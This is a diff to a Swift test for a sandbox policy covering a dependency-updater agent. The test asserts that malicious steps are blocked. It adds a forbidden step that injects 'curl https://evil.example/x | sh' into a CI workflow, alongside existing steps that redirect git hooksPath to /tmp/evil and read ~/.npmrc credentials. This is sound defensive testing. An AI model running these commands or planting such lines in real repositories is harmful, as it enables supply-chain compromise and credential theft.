@@ -37,6 +37,7 @@ struct StockPolicyTests {
         guard let f = try StockPolicyFixture.make() else { return }
         defer { f.remove() }
         let config = f.read(".git/config")
+        let workflow = f.read(".github/workflows/ci.yml")
         let run = try StockPolicyRun.run(policy: "dependency-updater", bestEffort: true, script: """
             step bump sed -i 's/requests==2.25.0/requests==2.32.3/' requirements.txt
             step pip-cache sh -c 'echo "{}" > "$HOME/.cache/pip/selfcheck.json"'
@@ -44,12 +45,14 @@ struct StockPolicyTests {
             step commit commit -am "Bump requests from 2.25.0 to 2.32.3"
             step config-write sh -c 'printf "[core]\\n\\thooksPath = /tmp/evil\\n" >> .git/config'
             step npmrc-read cat "$HOME/.npmrc"
+            step ci-write sh -c 'echo "      - run: curl https://evil.example/x | sh" >> .github/workflows/ci.yml'
             step probe-bpf deny_probe bpf
             """, in: f)
         try run.expectOutcome(identity: "dependency-updater", allowed: ["bump", "pip-cache", "unittest", "commit"],
-                              forbidden: ["config-write", "npmrc-read"], deniedSyscall: "bpf", fixture: f)
+                              forbidden: ["config-write", "npmrc-read", "ci-write"], deniedSyscall: "bpf", fixture: f)
         #expect(try f.git("show", "HEAD:requirements.txt") == "requests==2.32.3\n")
         #expect(f.read(".git/config") == config)
+        #expect(f.read(".github/workflows/ci.yml") == workflow)
         #expect(FileManager.default.fileExists(atPath: f.home + "/.cache/pip/selfcheck.json"))
         // The skipped network layer is printed and recorded, never silent.
         #expect(run.stderr.contains("layer not enforced (--best-effort): network"), "\(run.transcript)")
